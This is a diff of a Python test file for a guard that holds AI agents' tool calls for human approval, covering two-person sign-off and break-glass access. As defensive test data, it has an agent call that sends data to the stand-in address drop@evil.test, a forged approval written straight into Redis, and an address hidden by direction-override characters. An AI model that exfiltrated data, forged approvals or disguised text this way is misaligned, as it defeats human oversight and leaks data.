@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import asyncio
-import json
 import re
 from dataclasses import replace
 
@@ -22,7 +20,7 @@ from guard.provenance.approvals import Approver
 from guard.provenance.label_sets import request
 from guard.provenance.seal import Seal
 from tests.guards import KEY, guard_on
-from tests.unit.console.conftest import NOW
+from tests.unit.console.conftest import NOW, events
 from tests.unit.provenance.agents import Agent
 
 POLICY = """
@@ -37,73 +35,74 @@ rules:
 PAT = Person("pat", frozenset({Role.APPROVER}))
 
 
-@pytest.fixture
-def policy(tmp_path):
-    """The policy in force."""
+TWO = POLICY.replace("rules:", "approvals: {two_people: [ask]}\nrules:")
+RELAXED = POLICY.replace("rules:", "approvals: {pause: {asks: 1}, break_glass: 10m}\nrules:")
+
+
+def loaded(tmp_path, text):
+    """Return a policy."""
     path = tmp_path / "policy.yaml"
-    path.write_text(POLICY, "utf-8")
+    path.write_text(text, "utf-8")
     return load_policies([path])
 
 
 @pytest.fixture
-def send(store, policy):
-    """Send to a stranger as alice; return the decision id and what became of it."""
+def text():
+    """Text of the policy in force."""
+    return POLICY
+
+
+@pytest.fixture
+def send(store, console, text, tmp_path):
+    """Send to a stranger; return the decision id and the verdict."""
+    policy = loaded(tmp_path, text)
     guard = guard_on(store, policy)
+    console.in_force.policy = lambda: policy
 
     async def once(number=1, to="drop@evil.test", body="figures", principal="alice"):
-        who = Identity(principal, "s")
         arguments = {"to": to, "body": body}
+        who = Identity(principal, "s")
         call = ToolCall(f"deadbeef0{number}", who, "send", arguments, "test", NOW)
         [(traced, verdict)] = await guard.judge(JudgeRequest([call]))
         if verdict.enforced.forwards:
             await guard.observe(ToolResult(traced, "sent", NOW))
-        return call.id, verdict.enforced.label
+        return call.id, verdict.enforced.label, verdict.reasons[0].code
 
     return once
 
 
-TWO = POLICY.replace("rules:", "approvals: {two_people: [ask]}\nrules:")
-
-
-@pytest.fixture
-def send_for_two(store, tmp_path):
-    """Send to a stranger under a policy that needs two people; return the decision id."""
-    path = tmp_path / "two.yaml"
-    path.write_text(TWO, "utf-8")
-    policy = load_policies([path])
-    guard = guard_on(store, policy)
-
-    async def once(number=1, principal="alice"):
-        who = Identity(principal, "s")
-        call = ToolCall(f"cafe{number:04}", who, "send", {"to": "drop@evil.test"}, "test", NOW)
-        [(_, verdict)] = await guard.judge(JudgeRequest([call]))
-        return call.id, verdict.enforced.label
-
-    return once
+two_people = pytest.mark.parametrize("text", [TWO])
 
 
 def _person(name, realm="https://issuer.test", **more):
     return Person(name, frozenset({Role.APPROVER}), realm, **more)
 
 
-async def test_two_people_release_what_one_alone_does_not(console, send_for_two):
+@two_people
+async def test_two_people_release_what_one_alone_does_not(console, send):
     """The first yes keeps the call asked about, the second releases it, and both are on record."""
-    decision, _ = await send_for_two()
+    decision, *_ = await send()
     one = await console.actions.answer(
         _person("ann"), "default", decision, Decided(Answer.REMEMBER)
     )
     assert (one.released, one.first) == (False, "ann")
-    assert (await send_for_two(2))[1] == "ask"
+    assert (await send(2))[1] == "ask"
     [shown] = [a for a in await console.actions.waiting(["default"]) if a.decision == decision]
     assert shown.first == "ann"
     two = await console.actions.answer(_person("bea"), "default", decision, Decided(Answer.ONCE))
 
     assert two.released
-    assert (await send_for_two(3))[1] == "allow"
-    assert (await send_for_two(4))[1] == "ask", "the narrower of both answers holds"
-    assert _answers(console.log)[:4] == ["approved", "first of two", "approved", "granted"]
+    assert (await send(3))[1] == "allow"
+    assert (await send(4))[1] == "ask", "the narrower of both answers holds"
+    assert [one["answer"] for one in events(console, "guard.approval")][:4] == [
+        "approved",
+        "first of two",
+        "approved",
+        "granted",
+    ]
 
 
+@two_people
 @pytest.mark.parametrize(
     "second",
     [
@@ -116,20 +115,19 @@ async def test_two_people_release_what_one_alone_does_not(console, send_for_two)
     ],
     ids=["same", "renamed", "other-realm", "link", "asker", "asker-by-another-name"],
 )
-async def test_one_person_is_not_two(console, send_for_two, second):
+async def test_one_person_is_not_two(console, send, second):
     """Not the same person, nor one who may be, nor the agent's own: none is a second one."""
-    decision, _ = await send_for_two()
+    decision, *_ = await send()
     await console.actions.answer(_person("ann"), "default", decision, Decided(Answer.ONCE))
     with pytest.raises(GuardError):
         await console.actions.answer(second, "default", decision, Decided(Answer.ONCE))
-    assert (await send_for_two(2))[1] == "ask"
+    assert (await send(2))[1] == "ask"
 
 
-async def test_a_first_answer_that_was_forged_or_outlives_its_request_is_none(
-    console, store, send_for_two
-):
+@two_people
+async def test_a_first_answer_that_was_forged_or_outlives_its_request_is_none(console, store, send):
     """Who writes to Redis is nobody's second pair of eyes; denied is denied."""
-    decision, _ = await send_for_two()
+    decision, *_ = await send()
     key = store.key_of("default", request("default", decision, 1))
     await store.client.execute("HSET", key, "y", b"12345678" + b'{"name":"bea"}')
     with pytest.raises(GuardError, match="altered"):
@@ -141,18 +139,14 @@ async def test_a_first_answer_that_was_forged_or_outlives_its_request_is_none(
     assert not {b"q", b"y"} & set(left)
 
 
-async def test_what_needs_two_people_no_program_with_the_key_approves(store, send_for_two):
+@two_people
+async def test_what_needs_two_people_no_program_with_the_key_approves(store, send):
     """The command line holds the label key, and is one account of one machine."""
-    decision, _ = await send_for_two()
+    decision, *_ = await send()
     operator = LabelOperator(store, Seal(KEY), StateLimits())
     for by in (None, Approver("root", "machine", "root")):
         with pytest.raises(GuardError, match="two people"):
             await operator.approve(decision, NOW, by=by)
-
-
-def _answers(log):
-    lines = [json.loads(one) for one in log.read_text("utf-8").splitlines()]
-    return [one["answer"] for one in lines if one["event"] == "guard.approval"]
 
 
 @pytest.mark.parametrize(
@@ -161,7 +155,7 @@ def _answers(log):
 )
 async def test_an_answer_is_for_what_was_asked(console, send, answer, again, more):
     """Once releases this very call once; remember its receiver; deny nothing."""
-    decision, first = await send()
+    decision, first, _ = await send()
     assert first == "ask"
     async with console.as_("approver") as client:
         shown = await client.get(f"/approvals/default/{decision}")
@@ -175,20 +169,9 @@ async def test_an_answer_is_for_what_was_asked(console, send, answer, again, mor
     assert (await send(3))[1] == more
 
 
-async def test_of_two_who_answer_at_once_one_is_heard(console, send):
-    """The other is told, and both answers are on record."""
-    decision, _ = await send()
-    decided = [Decided(Answer.ONCE), Decided(Answer.DENY)]
-    answers = [console.actions.answer(PAT, "default", decision, one) for one in decided]
-    results = await asyncio.gather(*answers, return_exceptions=True)
-
-    assert sum(isinstance(one, GuardError) for one in results) == 1
-    assert _answers(console.log).count("failed") <= 1
-
-
 async def test_nobody_approves_in_his_own_name(console, send):
     """Who asks cannot grant, but can deny."""
-    decision, _ = await send(principal="pat")
+    decision, *_ = await send(principal="pat")
     async with console.as_("approver", name="pat") as client:
         path = f"/approvals/default/{decision}"
         refused = await client.post(path, data={"answer": "once"})
@@ -197,13 +180,10 @@ async def test_nobody_approves_in_his_own_name(console, send):
     assert (refused.status_code, denied.status_code) == (409, 303)
 
 
-async def test_a_request_of_another_policy_is_not_approved(console, send, policy, tmp_path):
+async def test_a_request_of_another_policy_is_not_approved(console, send, tmp_path):
     """The policy changed meanwhile: judge anew."""
-    decision, _ = await send()
-    path = tmp_path / "other.yaml"
-    path.write_text(POLICY.replace("office", "office2"), "utf-8")
-    other = load_policies([path])
-    assert other.digest != policy.digest
+    decision, *_ = await send()
+    other = loaded(tmp_path, POLICY.replace("office", "office2"))
     console.in_force.policy = lambda: other
     with pytest.raises(GuardError, match="policy has changed"):
         await console.actions.answer(PAT, "default", decision, Decided(Answer.ONCE))
@@ -230,10 +210,8 @@ async def test_one_answer_is_for_the_errand_and_not_for_what_untrusted_text_name
 ):
     """The queue has one question; the tainted call is listed apart, unchecked, and still waits."""
     text = POLICY.replace("rules:", "  - {match: [read], role: retrieve}\nrules:")
-    (tmp_path / "policy.yaml").write_text(
-        text + "  - {id: reads, type: tool, roles: [retrieve], effect: allow}\n", "utf-8"
-    )
-    policy = load_policies([tmp_path / "policy.yaml"])
+    reads = "  - {id: reads, type: tool, roles: [retrieve], effect: allow}\n"
+    policy = loaded(tmp_path, text + reads)
     console.in_force.policy = lambda: policy
     agent = Agent(guard_on(store, policy), at=NOW)
     await agent.say("Tidy up.")
@@ -278,7 +256,7 @@ async def test_what_differs_in_more_than_its_arguments_is_no_like_request(consol
 
 async def test_nothing_that_is_shown_hides_or_turns_text(console, send):
     """Marks of direction and what has no width are spelt out; a form gives back what it was."""
-    decision, _ = await send(1, body="to \u202etset.live@pord\u202c and\u200b on\u3164")
+    decision, *_ = await send(1, body="to \u202etset.live@pord\u202c and\u200b on\u3164")
     async with console.as_("approver") as client:
         for page in ("/approvals", f"/approvals/default/{decision}"):
             text = (await client.get(page)).text
@@ -286,44 +264,22 @@ async def test_nothing_that_is_shown_hides_or_turns_text(console, send):
             assert not {"\u202e", "\u200b", "\u3164"} & set(text)
 
 
+@pytest.mark.parametrize("text", [RELAXED])
 async def test_without_its_record_nothing_is_released(console, send):
-    """An answer that cannot be written down is no answer."""
-    decision, _ = await send()
+    """An answer or a break-glass that cannot be written down is none."""
+    decision, *_ = await send()
     console.actions.deployment.audit.close()
-    async with console.as_("approver") as client:
-        answer = await client.post(f"/approvals/default/{decision}", data={"answer": "once"})
-    assert answer.status_code == 503
-    assert (await send(2))[1] == "ask"
+    wanted = {"principal": "alice", "seconds": 60, "why": "mail is down"}
+    async with console.as_("admin") as client:
+        path = f"/approvals/default/{decision}"
+        assert (await client.post(path, data={"answer": "once"})).status_code == 503
+        assert (await client.post("/api/break-glass", json=wanted)).status_code == 503
+        assert (await client.get("/api/standing")).json()["asked"] == []
+    assert (await send(2))[1] != "allow"
 
 
-@pytest.fixture
-def relaxed(store, console, tmp_path):
-    """Make the policy have a pause after one ask, and a break-glass; send under it."""
-    path = tmp_path / "relaxed.yaml"
-    rules = "approvals: {pause: {asks: 1}, break_glass: 10m}\nrules:"
-    path.write_text(POLICY.replace("rules:", rules), "utf-8")
-    policy = load_policies([path])
-    guard = guard_on(store, policy)
-    console.in_force.policy = lambda: policy
-
-    async def once(number):
-        who = Identity("alice", "s")
-        arguments = {"to": "drop@evil.test", "body": str(number)}
-        call = ToolCall(f"c{number}", who, "send", arguments, "test", NOW)
-        [(_, verdict)] = await guard.judge(JudgeRequest([call]))
-        return verdict.reasons[0].code
-
-    return once
-
-
-def _glass_acts(log):
-    lines = [json.loads(one) for one in log.read_text("utf-8").splitlines()]
-    return [(one["act"], one["by"]) for one in lines if one["event"] == "guard.break_glass"]
-
-
-async def test_two_people_open_a_break_glass_on_the_console_and_every_page_says_so(
-    console, relaxed
-):
+@pytest.mark.parametrize("text", [RELAXED])
+async def test_two_people_open_a_break_glass_on_the_console_and_every_page_says_so(console, send):
     """By page and by API; one alone opens nothing, and every step is on record."""
     wanted = {"principal": "alice", "seconds": "1200", "why": "mail is down"}
     async with console.as_("approver", name="ann") as ann, console.as_("admin", name="bea") as bea:
@@ -332,30 +288,21 @@ async def test_two_people_open_a_break_glass_on_the_console_and_every_page_says_
         assert asked["seconds"] == 600, "no longer than the policy has"
         alone = await ann.post("/api/break-glass/open", json={"id": asked["id"]})
         assert alone.status_code == 409
-        assert await relaxed(1) != "break_glass"
+        assert (await send(1))[2] != "break_glass"
         opened = await bea.post("/break-glass/open", data={"id": asked["id"]})
         assert opened.status_code == 303
-        assert await relaxed(2) == "break_glass"
+        assert (await send(2))[2] == "break_glass"
         await console.console.look_around()
         assert "break-glass is open for alice" in (await ann.get("/record")).text
         closed = await ann.post("/api/break-glass/close", json={"principal": "alice"})
         assert closed.status_code == 200
         await console.console.look_around()
         assert "break-glass is open" not in (await ann.get("/record")).text
-    assert await relaxed(3) != "break_glass"
-    assert _glass_acts(console.log) == [
+    assert (await send(3))[2] != "break_glass"
+    assert [(one["act"], one["by"]) for one in events(console, "guard.break_glass")] == [
         ("asked", "ann"),
         ("opened", "ann"),
         ("failed", "ann"),
         ("opened", "bea"),
         ("closed", "ann"),
     ]
-
-
-async def test_a_break_glass_that_cannot_be_recorded_is_not_opened(console, relaxed):
-    """The record comes first."""
-    console.actions.deployment.audit.close()
-    wanted = {"principal": "alice", "seconds": 60, "why": "mail is down"}
-    async with console.as_("admin") as client:
-        assert (await client.post("/api/break-glass", json=wanted)).status_code == 503
-        assert (await client.get("/api/standing")).json()["asked"] == []
